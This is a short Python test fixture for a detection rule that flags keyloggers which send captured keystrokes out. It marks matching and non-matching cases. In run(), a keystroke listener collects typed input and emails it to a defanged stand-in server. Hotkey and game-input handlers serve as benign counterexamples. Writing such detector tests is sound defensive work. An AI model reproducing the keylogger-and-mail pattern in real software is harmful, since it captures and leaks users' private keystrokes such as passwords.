# Test for keylogger-exfil (defanged: example.invalid, no credentials).
import smtplib

from pynput import keyboard

typed = []


def on_press(key):
    typed.append(str(key))


def run():
    # ruleid: keylogger-exfil
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()
    server = smtplib.SMTP("smtp.example.invalid", 587)
    server.sendmail("a@example.invalid", "b@example.invalid", "".join(typed))


def hotkeys():
    import keyboard as kb

    # ok: keylogger-exfil
    kb.add_hotkey("ctrl+shift+s", print)


def game_controls(game):
    # ok: keylogger-exfil
    with keyboard.Events() as events:
        for event in events:
            game.handle(event.key)


def overlay_toggle(listener_cls=keyboard.Listener):
    def on_key(key):
        return key != keyboard.Key.esc

    # ruleid: keylogger-exfil
    listener = keyboard.Listener(on_press=on_key)
    listener.start()
